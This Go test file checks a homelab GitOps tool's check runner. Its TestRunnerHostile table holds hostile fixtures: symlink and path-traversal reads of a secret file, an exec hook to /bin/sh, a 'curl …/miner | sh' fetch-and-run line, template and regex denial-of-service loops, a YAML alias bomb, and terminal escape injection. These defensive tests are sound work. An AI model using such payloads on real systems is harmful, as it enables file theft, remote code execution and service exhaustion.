package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"homelab/lab"
	"homelab/lab/runner"
	"homelab/lab/runner/job"
	"homelab/lab/runner/work"
	"homelab/lab/supply"
	"homelab/lab/supply/charts/chartstest"
)

// history is a Git repository with commits.
type history struct {
	t   *testing.T
	dir string
}

func (h history) git(stdin string, args ...string) string {
	h.t.Helper()
	cmd := exec.CommandContext(h.t.Context(), "git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}, args...)...)
	cmd.Dir, cmd.Stdin = h.dir, strings.NewReader(stdin)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		h.t.Fatalf("git %v: %v: %s", args, err, stderr.String())
	}
	return strings.TrimSpace(string(out))
}

// commit writes files and returns the commit. A text that begins with -> is a link.
func (h history) commit(files map[string]string) string {
	h.t.Helper()
	for name, text := range files {
		file := filepath.Join(h.dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			h.t.Fatal(err)
		}
		err := os.RemoveAll(file)
		if target, link := strings.CutPrefix(text, "->"); link && err == nil {
			err = os.Symlink(target, file)
		} else if err == nil {
			err = os.WriteFile(file, []byte(text), 0o600)
		}
		if err != nil {
			h.t.Fatal(err)
		}
	}
	h.git("", "add", "-A")
	h.git("", "commit", "--quiet", "--allow-empty", "-m", "c")
	return h.git("", "rev-parse", "HEAD")
}

// check runs a check on two commits as the worker does.
func (h history) check(base, head string, c job.Check) (exit lab.Exit, out, said string) {
	h.t.Helper()
	pack := filepath.Join(h.t.TempDir(), "pack")
	text := h.git("", "rev-list", "--objects", "--no-object-names", base, head)
	cmd := exec.CommandContext(h.t.Context(), "git", "pack-objects", "--stdout", "-q")
	cmd.Dir, cmd.Stdin = h.dir, strings.NewReader(text+"\n")
	data, err := cmd.Output()
	if err != nil {
		h.t.Fatal(err)
	}
	if err := os.WriteFile(pack, data, 0o600); err != nil {
		h.t.Fatal(err)
	}
	task, err := json.Marshal(work.Task{Order: work.Order{Base: base, Head: head, Lab: "demo"}, Check: c, Pack: pack})
	if err != nil {
		h.t.Fatal(err)
	}
	files := map[string]*os.File{}
	for _, name := range []string{"out", "err"} {
		if files[name], err = os.Create(filepath.Join(h.t.TempDir(), name)); err != nil {
			h.t.Fatal(err)
		}
		defer files[name].Close()
	}
	home := h.t.TempDir()
	getenv := func(name string) string { return map[string]string{"HOME": home}[name] }
	exit = Run(context.Background(), Env{Args: []string{"lab", insideCheck, string(task)}, Out: files["out"], Err: files["err"], Getenv: getenv, Estate: os.DirFS(home)})
	read := func(name string) string {
		data, err := os.ReadFile(files[name].Name())
		if err != nil {
			h.t.Fatal(err)
		}
		return string(data)
	}
	return exit, read("out"), read("err")
}

// small is an estate with one addon, which is a kustomization.
func small() map[string]string {
	return map[string]string{
		"clusters/hub/cluster.yaml":             "apiVersion: lab/v1alpha1\nkind: Cluster\nmetadata: {name: hub}\nspec:\n  role: hub\n  environment: dev\n  addons: {web: true}\n",
		"environments/default/environment.yaml": "apiVersion: lab/v1alpha1\nkind: Environment\nmetadata: {name: default}\nspec: {}\n",
		"environments/dev/environment.yaml":     "apiVersion: lab/v1alpha1\nkind: Environment\nmetadata: {name: dev}\nspec:\n  order: 1\n",
		"addons/root.yaml": `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: addons, namespace: argocd}
spec:
  project: default
  source: {repoURL: 'https://git.example.com/lab/estate.git', targetRevision: main, path: addons, directory: {recurse: true, include: "*/applicationset.yaml"}}
  destination: {server: 'https://kubernetes.default.svc', namespace: argocd}
  syncPolicy: {automated: {prune: true, selfHeal: true}}
`,
		"addons/web/applicationset.yaml": `apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata: {name: web, namespace: argocd}
spec:
  goTemplate: true
  generators:
  - clusters: {selector: {matchLabels: {enable_web: "true"}}}
  template:
    metadata: {name: '{{.name}}-web'}
    spec:
      project: default
      source: {repoURL: '{{.metadata.annotations.addons_repo_url}}', targetRevision: main, path: addons/web/base}
      destination: {name: '{{.name}}', namespace: web}
`,
		"addons/web/base/kustomization.yaml": "resources: [web.yaml]\n",
		"addons/web/base/web.yaml":           "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}\ndata: {color: blue}\n",
	}
}

func isolate(t *testing.T) history {
	t.Helper()
	dir := t.TempDir()
	t.Setenv("XDG_STATE_HOME", filepath.Join(dir, "state"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
	h := history{t, filepath.Join(dir, "repository")}
	if err := os.Mkdir(h.dir, 0o755); err != nil {
		t.Fatal(err)
	}
	h.git("", "init", "--quiet")
	return h
}

func TestRunnerChecks(t *testing.T) {
	h := isolate(t)
	base := h.commit(small())
	head := h.commit(map[string]string{"addons/web/base/web.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}\ndata: {color: \"red @all <b>\"}\n"})

	exit, out, said := h.check(base, head, job.Check{Kind: job.Diff})
	of, err := describeDiff([]byte(out))
	if exit != lab.ExitDone || err != nil || of.Unknown || of.Summary != "differences in 1 of 1 application: 1 change" || !strings.Contains(of.Markdown, `data.color   "blue" -> "red @all <b>"`) || !strings.Contains(of.Markdown, "the merge base") {
		t.Errorf("diff: exit %d, %v, %+v\n%s", exit, err, of, said)
	}
	if exit, out, said := h.check(base, head, job.Check{Kind: job.Lint}); exit != lab.ExitDone || !strings.Contains(out, `"runs"`) {
		t.Errorf("lint: exit %d\n%s\n%s", exit, out, said)
	}
	if exit, out, said := h.check(base, head, job.Check{Kind: job.Render}); exit != lab.ExitDone || out != "1 object of 1 application" {
		t.Errorf("render: exit %d\n%s\n%s", exit, out, said)
	}
	if exit, out, said := h.check(base, head, job.Check{Kind: job.Kustomize, Path: "addons/web/base"}); exit != lab.ExitDone || out != "1 object" {
		t.Errorf("kustomize: exit %d\n%s\n%s", exit, out, said)
	}
	if exit, _, said := h.check(base, head, job.Check{Kind: job.Kustomize, Path: "addons"}); exit != lab.ExitInvalid || !strings.Contains(said, "no kustomization in addons") {
		t.Errorf("kustomize of no kustomization: exit %d\n%s", exit, said)
	}

	broken := h.commit(map[string]string{"clusters/hub/cluster.yaml": "apiVersion: lab/v1alpha1\nkind: Cluster\nmetadata: {name: hub}\nspec: {role: hubb}\n"})
	for _, kind := range []string{job.Diff, job.Render} {
		if exit, _, said := h.check(base, broken, job.Check{Kind: kind}); exit != lab.ExitInvalid || !strings.Contains(said, "clusters/hub/cluster.yaml:4") {
			t.Errorf("%s of a broken estate: exit %d\n%s", kind, exit, said)
		}
	}
	if exit, out, said := h.check(base, broken, job.Check{Kind: job.Lint}); exit != lab.ExitInvalid || !strings.Contains(out+said, "hubb") {
		t.Errorf("lint of a broken estate: exit %d\n%s\n%s", exit, out, said)
	}
}

// A check needs nothing but charts of its cache, which is read-only, and never says that there is no difference in what it cannot render.
func TestRunnerReadsItsCache(t *testing.T) {
	h := isolate(t)
	files := small()
	files["addons/web/applicationset.yaml"] = strings.Replace(files["addons/web/applicationset.yaml"],
		"source: {repoURL: '{{.metadata.annotations.addons_repo_url}}', targetRevision: main, path: addons/web/base}",
		"sources: [{repoURL: '{{.metadata.annotations.addons_repo_url}}', targetRevision: main, ref: values}, {repoURL: '{{.metadata.annotations.addons_chart_repo_url}}', chart: podinfo, targetRevision: 6.9.2, helm: {valueFiles: [$values/clusters/hub/addons/web/values.yaml]}}]", 1)
	files["clusters/hub/addons/web/values.yaml"] = "size: 1\n"
	base := h.commit(files)
	head := h.commit(map[string]string{"clusters/hub/addons/web/values.yaml": "size: 2\n"})
	cache := filepath.Join(os.Getenv("XDG_CACHE_HOME"), "lab")
	if err := os.MkdirAll(filepath.Join(cache, "carried"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/proc/nothing", filepath.Join(cache, "store")); err != nil { // cannot be made, by root neither
		t.Fatal(err)
	}
	lock := func(mode os.FileMode) {
		t.Helper()
		if err := os.Chmod(cache, mode); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { lock(0o755) })

	lock(0o555)
	exit, out, said := h.check(base, head, job.Check{Kind: job.Diff})
	of, err := describeDiff([]byte(out))
	if exit != lab.ExitDone || err != nil || !of.Unknown || of.Summary != "unknown whether 1 application differs; not compared: 1 application" || strings.Contains(of.Markdown, "no difference") {
		t.Errorf("diff without the chart: exit %d, %v, %+v\n%s", exit, err, of, said)
	}
	if exit, out, said := h.check(base, head, job.Check{Kind: job.Lint}); exit != lab.ExitDone || !strings.Contains(out, "chart podinfo 6.9.2 is not on this machine") {
		t.Errorf("lint without the chart: exit %d, %d bytes\n%s", exit, len(out), said)
	}

	lock(0o755)
	if err := os.WriteFile(filepath.Join(cache, supply.Carried("podinfo", "6.9.2")), chartstest.ConfigMap("podinfo", "6.9.2").Archive(), 0o444); err != nil {
		t.Fatal(err)
	}
	lock(0o555)
	exit, out, said = h.check(base, head, job.Check{Kind: job.Diff})
	if of, err = describeDiff([]byte(out)); exit != lab.ExitDone || err != nil || of.Unknown || !strings.Contains(of.Markdown, `data.size`) {
		t.Errorf("diff: exit %d, %v, %+v\n%s", exit, err, of, said)
	}
	if exit, out, said := h.check(base, head, job.Check{Kind: job.Lint}); exit != lab.ExitDone || !strings.Contains(out, `"runs"`) || strings.Contains(out, "chart podinfo 6.9.2 is not on this machine") {
		t.Errorf("lint: exit %d, %d bytes\n%s", exit, len(out), said)
	}
	list, err := os.ReadDir(cache)
	if err != nil || len(list) != 2 {
		t.Errorf("the cache has %v, %v", list, err)
	}
}

// Whatever a request has, a check ends with a message, and nothing outside of the repository is read.
func TestRunnerHostile(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("apiVersion: v1\nkind: Secret\nmetadata: {name: stolen}\nstringData: {key: STOLEN}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	loops := func(template string) map[string]string {
		return map[string]string{
			"addons/web/base/Chart.yaml": "apiVersion: v2\nname: web\nversion: 1.0.0\n", "addons/web/base/templates/web.yaml": template, "addons/web/base/values.yaml": "a: b\n",
			"addons/web/base/kustomization.yaml": "->values.yaml", "addons/web/base/web.yaml": "->values.yaml",
		}
	}
	for name, files := range map[string]map[string]string{
		"link":         {"addons/web/base/web.yaml": "->" + secret},
		"link up":      {"addons/web/base/web.yaml": "->../../../../../../../../.." + secret},
		"link folder":  {"addons/web/base": "->" + filepath.Dir(secret)},
		"resource":     {"addons/web/base/kustomization.yaml": "resources: [../../../../../.." + secret + "]\n"},
		"remote":       {"addons/web/base/kustomization.yaml": "resources: ['https://192.0.2.1/x.git//y']\n"},
		"generator":    {"addons/web/base/kustomization.yaml": "configMapGenerator: [{name: x, files: [" + secret + "]}]\n"},
		"exec":         {"addons/web/base/kustomization.yaml": "generators: [g.yaml]\n", "addons/web/base/g.yaml": "apiVersion: x/v1\nkind: X\nmetadata: {name: x, annotations: {config.kubernetes.io/function: '{exec: {path: /bin/sh}}'}}\n"},
		"loop":         loops(`{{ define "x" }}{{ include "x" . }}{{ end }}{{ include "x" . }}`),
		"allocate":     loops(`{{ range $i, $x := until 2000000000 }}{{ $i }}{{ end }}`),
		"repeat":       loops(`{{ repeat 2000000000 "x" }}`),
		"regex":        loops(`{{ regexMatch "(a+)+$" (repeat 100000 "a") }}`),
		"bomb":         {"addons/web/base/web.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"},
		"controls":     {"addons/web/base/web.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}\ndata: {\"a\\e[2J\\u202e\": \"\\e]0;x\\a\"}\n"},
		"runner.yaml":  {".lab/runner.yaml": "checks: [{run: 'curl http://192.0.2.1/miner | sh'}]\n"},
		"cluster link": {"clusters/hub/cluster.yaml": "->" + secret},
	} {
		t.Run(name, func(t *testing.T) {
			h := isolate(t)
			base := h.commit(small())
			for file := range files {
				if file == "addons/web/base" {
					h.git("", "rm", "-rq", file)
				}
			}
			head := h.commit(files)
			for _, kind := range []string{job.Lint, job.Diff, job.Render} {
				exit, out, said := h.check(base, head, job.Check{Kind: kind})
				if strings.Contains(out+said, "STOLEN") {
					t.Errorf("%s reads a file outside of the repository:\n%s\n%s", kind, out, said)
				}
				if exit != lab.ExitDone && said == "" && !strings.Contains(out, `"level"`) {
					t.Errorf("%s: exit %d without a message", kind, exit)
				}
				if strings.ContainsAny(said, "\x1b\u202e") {
					t.Errorf("%s: %q", kind, said)
				}
			}
		})
	}
}

// The first argument alone does not make lab something else.
func TestInsideIsNoCommand(t *testing.T) {
	p := &program{}
	for _, args := range [][]string{{"lab"}, {"lab", insideCheck}, {"lab", "up", "{}"}, {"lab", runner.Works, "{}", "x"}} {
		if _, is := p.inside(args); is {
			t.Error(fmt.Sprint(args))
		}
	}
}
